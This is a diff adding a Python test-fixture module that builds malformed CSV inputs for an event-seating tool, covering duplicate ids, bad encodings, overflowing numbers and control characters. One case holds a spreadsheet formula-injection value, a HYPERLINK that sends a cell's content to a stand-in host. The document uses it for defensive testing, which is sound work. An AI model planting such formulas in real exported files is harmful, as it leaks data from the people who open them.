@@ -1,0 +1,98 @@
+"""Hostile or careless input, one idea each. The page of each tells the places, counted as messages do."""
+
+from .small import EVENT, HALL_HEADER, delegates, event, hall, hall_event, leaders, people, rostrum_event
+from .tables import EVENT_HEADER, in_folder, page, table
+
+NOT_REFUSED = {"formula-cell"}
+
+
+def files():
+    """All events of the family."""
+    return {path: content for name, (idea, tables) in cases().items()
+            for path, content in in_folder(f"malformed/{name}", tables | {"README.md": readme(name, idea)}).items()}
+
+
+def readme(name, idea):
+    """The page of a case."""
+    verdict = "It may be read as text." if name in NOT_REFUSED else "It must be refused, with exit status 65."
+    return page(name.replace("-", " ").capitalize(), f"All invented. {idea}", verdict)
+
+
+def cases():
+    """What is wrong, and the tables, by folder name."""
+    sound = hall_event(delegates())
+    return {
+        "missing-column": (
+            "people.csv has no `name`.",
+            sound | {"people.csv": table(["id", "group"], [["P01", "North"], ["P02", "South"]])}),
+        "many-problems": (
+            "Six at once: event.csv:3:2 (no such day), people.csv:3:4 (unknown role, close to delegate), "
+            "people.csv:5:5 (unknown gender), people.csv:8:2 (no name), hall.csv:3:4 and "
+            "hall.csv:4:2 (no numbers).",
+            many_problems()),
+        "duplicate-ids": (
+            "people.csv:9:1 has the id of row 3.",
+            hall_event(delegates(hal={"id": "P02"}))),
+        "duplicate-seats": (
+            "hall.csv:6 has seats 5 and 6 of A, row 1, once more.",
+            sound | {"hall.csv": hall() + b"A,1,5,8\n"}),
+        "unknown-group": (
+            "groups.csv:3:1 names a group nobody is in, close to one that is there (South).",
+            sound | {"groups.csv": table(["group", "order"], [["North", 1], ["Soutth", 2]])}),
+        "unknown-section": (
+            "groups.csv:3:3 binds a group to a section the hall does not have.",
+            sound | {"groups.csv": table(["group", "order", "section"], [["North", 1, "A"], ["South", 2, "Z"]])}),
+        "unknown-person": (
+            "people.csv:4:6 names nobody (close to Leo); people.csv:6:6 names two people of one name.",
+            hall_event(delegates(cleo={"beside": "Leoo"}, eva={"beside": "Jon"}, kim={"name": "Jon"}))),
+        "seat-not-there": (
+            "people.csv:4:6 is pinned to a row the hall does not have, people.csv:6:6 is no seat at all.",
+            hall_event(delegates(cleo={"seat": "A-9-1"}, eva={"seat": "somewhere"}))),
+        "rostrum-seat-not-there": (
+            "people.csv:4:5 is pinned to seat 7 of a row of 5.",
+            rostrum_event(leaders(cleo={"seat": "rostrum:1-7"}))),
+        "unclosed-quote": (
+            "A quote opens at people.csv:3:2 and never closes.",
+            sound | {"people.csv": b'id,name,group\nP01,Ada,North\nP02,"Ben,North\nP03,Cleo,South\n'}),
+        "formula-cell": (
+            "people.csv:3:2 is a formula that was saved as text. Whoever prints it must not let a spreadsheet "
+            "run it.",
+            hall_event(delegates(ben={"name": '=HYPERLINK("http://example.invalid/?"&A1,"Ben")'}))),
+        "control-characters": (
+            "people.csv:3:2 holds an escape sequence, people.csv:5:2 a null, people.csv:7:2 a bell.",
+            hall_event(delegates(ben={"name": "Ben\x1b[31m"}, dan={"name": "Da\x00n"}, finn={"name": "Finn\x07"}))),
+        "two-people-tables": (
+            "people.csv and 人员.csv are one table.",
+            sound | {"人员.csv": table(["编号", "姓名", "分组"], [["P01", "王建国", "东区"], ["P02", "李秀英", "西区"]])}),
+        "no-people": (
+            "There is no table of people.",
+            {"event.csv": event(), "hall.csv": hall()}),
+        "empty-people": (
+            "people.csv has no byte.",
+            sound | {"people.csv": b""}),
+        "not-text": (
+            "people.csv is neither UTF-8, UTF-16 nor GB18030.",
+            sound | {"people.csv": b"id,name\nP01,\xff\xff\xfe\x00\x80\n"}),
+        "huge-numbers": (
+            "Numbers no machine word holds, or that ask for more seats than there are people on earth: "
+            "people.csv:2:4, hall.csv:2:4, hall.csv:3:2, rostrum.csv:2:2.",
+            huge_numbers()),
+    }
+
+
+def many_problems():
+    """Problems of several tables at once."""
+    rows = delegates(ben={"role": "delegat"}, dan={"gender": "X"}, gina={"name": ""})
+    return {
+        "event.csv": table(EVENT_HEADER, [EVENT[0], ["start", "2026-02-30"], *EVENT[2:]]),
+        "people.csv": people(rows),
+        "hall.csv": table(HALL_HEADER, [["A", 1, 1, 6], ["A", 2, 1, "six"], ["A", "三", 1, 6]]),
+    }
+
+
+def huge_numbers():
+    """Numbers that overflow."""
+    much = "9" * 30
+    return hall_event(delegates(ada={"rank": "1e999"})) | {
+        "hall.csv": table(HALL_HEADER, [["A", 1, 1, much], ["A", much, 1, 6]]),
+        "rostrum.csv": table(["row", "seats"], [[1, 9223372036854775807]])}
